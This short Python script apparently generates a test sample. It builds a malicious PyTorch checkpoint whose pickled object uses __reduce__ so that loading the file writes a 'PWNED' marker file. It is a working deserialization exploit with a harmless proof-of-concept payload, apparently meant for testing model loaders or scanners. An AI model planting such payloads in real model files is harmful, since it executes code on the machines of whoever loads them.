import os, torch                             # the same in torch's zip format
class X:
    def __reduce__(s): return (open, ("/var/tmp/qianka-attacks/PWNED_by_torch", "w"))
torch.save({"w": torch.zeros(2), "x": X()}, "/out/model.pt"); print("ATTACK torchpickle: written")
